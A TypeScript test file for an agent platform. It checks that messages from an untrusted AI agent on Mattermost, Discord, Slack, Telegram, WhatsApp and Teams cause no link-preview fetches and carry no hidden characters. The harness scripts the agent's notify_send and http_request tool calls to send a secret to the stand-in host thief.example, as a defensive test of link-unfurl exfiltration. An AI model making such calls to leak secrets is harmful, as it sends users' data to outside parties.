import { expect } from '@hapi/code';
import * as Lab from '@hapi/lab';
import { call, type Stage, startStage } from '../../agents/stage.js';
import { until } from '../../harness/app.js';
import { linkChannel } from '../../harness/channel.js';
import * as discord from '../../harness/discord.js';
import * as mattermost from '../../harness/mattermost.js';
import { says } from '../../harness/openai.js';
import * as slack from '../../harness/slack.js';
import * as teams from '../../harness/teams.js';
import * as telegram from '../../harness/telegram.js';
import * as whatsapp from '../../harness/whatsapp.js';
import { SLACK_FIELDS, TELEGRAM_FIELDS } from './desk.js';

export const lab = Lab.script();
const { after, before, describe, it } = lab;

const SECRET = 'a-secret-of-the-payload';
const ADDRESS = `https://thief.example/${SECRET}?_a_=*b*`;
const TEXT = `${ADDRESS}\n(${ADDRESS}) HTTP://www.thief.example www.thief.example/${SECRET}`;

interface Fake {
  settings: { baseUrl?: string; fields: object };
  sender: { id: string; name: string };
  /** The bodies that it got, oldest first. */
  got(): object[];
  /** What the platform would fetch of a body, by its own documents. */
  fetches(body: object): unknown;
  close(): void;
}

const linked = (text: string): string[] =>
  text.match(/\b(https?|ftp):\/\/\S+|\bwww\d{0,3}\.\S+/gi) ?? [];
const at = (body: object, ...path: string[]): unknown =>
  path.reduce<unknown>((value, key) => Reflect.get(Object(value), key), body);

const onMattermost = async (): Promise<Fake> => {
  const { baseUrl, posts, close } = await mattermost.openMattermost();
  const fields = { botToken: mattermost.BOT_TOKEN, commandTokens: mattermost.COMMAND_TOKEN };
  return {
    ...{ settings: { baseUrl, fields }, sender: mattermost.ADA, got: () => posts, close },
    // The server reads links of what is no code, unless the post has a list of attachments.
    fetches: (body) =>
      Array.isArray(at(body, 'props', 'attachments'))
        ? []
        : linked(String(at(body, 'message')).replace(/^```[\s\S]*?^```$/gm, '')),
  };
};

const onDiscord = async (): Promise<Fake> => {
  const { baseUrl, messages, close } = await discord.openDiscord();
  const fields = { botToken: discord.BOT_TOKEN, publicKey: discord.PUBLIC_KEY };
  return {
    ...{ settings: { baseUrl, fields }, sender: discord.ADA, got: () => messages, close },
    fetches: (body) => (Number(at(body, 'flags')) & 4 ? [] : [at(body, 'flags')]),
  };
};

const onSlack = async (): Promise<Fake> => {
  const { baseUrl, calls, close } = await slack.openSlack();
  const settings = { baseUrl, fields: SLACK_FIELDS };
  return {
    ...{ settings, sender: slack.ADA, got: () => calls, close },
    fetches: (body) =>
      [at(body, 'unfurl_links'), at(body, 'unfurl_media')].filter((is) => is !== false),
  };
};

const onTelegram = async (): Promise<Fake> => {
  const { baseUrl, calls, close } = await telegram.openTelegram();
  const settings = { baseUrl, fields: TELEGRAM_FIELDS };
  return {
    ...{ settings, sender: telegram.ADA, got: () => calls, close },
    fetches: (body) =>
      [at(body, 'link_preview_options', 'is_disabled')].filter((is) => is !== true),
  };
};

const onWhatsapp = async (): Promise<Fake> => {
  const { baseUrl, sent, close } = await whatsapp.openWhatsapp();
  const fields = {
    appSecret: whatsapp.APP_SECRET,
    verifyToken: whatsapp.VERIFY_TOKEN,
    phoneNumberId: whatsapp.PHONE_NUMBER_ID,
    accessToken: whatsapp.ACCESS_TOKEN,
  };
  return {
    ...{ settings: { baseUrl, fields }, sender: whatsapp.ADA, got: () => sent, close },
    // A message with buttons has no preview.
    fetches: (body) =>
      at(body, 'type') === 'interactive'
        ? []
        : [at(body, 'text', 'preview_url')].filter((is) => is !== false),
  };
};

const onTeams = async (): Promise<Fake> => {
  const { url, posted, close } = await teams.openWorkflow();
  const fields = { securityToken: teams.SECURITY_TOKEN, workflowUrl: url };
  const sender = { ...teams.ADA, id: `${teams.TENANT}:${teams.ADA.id}` };
  return {
    ...{ settings: { fields }, sender, got: () => posted, close },
    // A run of a card is no text of a message: Teams finds no links in it. A TextBlock has some.
    fetches: (body) =>
      JSON.stringify(body).includes('"TextBlock"') ? linked(teams.linesOf(body).join('\n')) : [],
  };
};

const openFakes = async (): Promise<Record<string, Fake>> => ({
  mattermost: await onMattermost(),
  discord: await onDiscord(),
  slack: await onSlack(),
  telegram: await onTelegram(),
  whatsapp: await onWhatsapp(),
  teams: await onTeams(),
});

const KINDS = ['mattermost', 'discord', 'slack', 'telegram', 'whatsapp', 'teams'] as const;

describe('what an untrusted agent says on a channel', () => {
  let stage: Stage;
  let fakes: Record<string, Fake>;
  before(async () => {
    fakes = await openFakes();
    stage = await startStage({ egressAllow: ['127.0.0.1'] });
    for (const kind of KINDS) {
      const { settings, sender } = of(kind);
      const path = `/api/admin/platforms/${kind}`;
      const { status, text } = await stage.ask('PUT', path, settings);
      expect(status, text).to.equal(200);
      await linkChannel(stage, stage.userId, { kind, ...sender });
    }
  });
  after(async () => {
    await stage.stop();
    for (const { close } of Object.values(fakes)) close();
  });

  const of = (kind: string): Fake => {
    const fake = fakes[kind];
    if (!fake) throw new Error(`No fake of ${kind}`);
    return fake;
  };

  /** What reaches the platform of what the agent of a hook does, once the word is in it. */
  const said = async (name: string, tool: ReturnType<typeof call>, word: string) => {
    stage.model.script(says({ toolCalls: [tool] }), says({ text: 'Done.' }));
    const { body } = await stage.ask('POST', '/api/hooks', {
      ...{ name, trigger: 'webhook', triggerConfig: { webhookPath: name } },
      ...{ action: 'spawn_agent', actionConfig: { agentPrompt: 'Look' } },
    });
    await stage.ask('POST', `/api/hooks/${body.id}/test`, { payload: { name } });
    return (kind: string) =>
      until(
        async () => of(kind).got(),
        (got) => JSON.stringify(got).includes(word),
      );
  };

  it('is fetched by no platform', async () => {
    const title = `Look at ${ADDRESS}`;
    const got = await said('say', call('notify_send', { title, message: TEXT }), SECRET);
    for (const kind of KINDS) {
      for (const body of await got(kind)) {
        expect([kind, of(kind).fetches(body)]).to.equal([kind, []]);
      }
    }
  });

  it('is fetched by none where it asks for approval', async () => {
    const args = { method: 'POST', url: ADDRESS, body: TEXT };
    const got = await said('ask', call('http_request', args), 'http.request');
    for (const kind of KINDS) {
      for (const body of await got(kind)) {
        expect([kind, of(kind).fetches(body)]).to.equal([kind, []]);
      }
    }
  });

  it('holds no sign that is not seen within an address where it stays one', async () => {
    const text = JSON.stringify(of('whatsapp').got());
    expect(text).to.contain(`https://thief.example/${SECRET}?%5Fa_=%2Ab*`);
    for (const kind of KINDS) {
      const addresses = JSON.stringify(of(kind).got()).match(/https:\/\/thief[^\s"\\)]*/g) ?? [];
      expect([kind, addresses.length > 0]).to.equal([kind, true]);
      expect([kind, addresses.filter((address) => /\p{Cf}/u.test(address))]).to.equal([kind, []]);
    }
  });
});
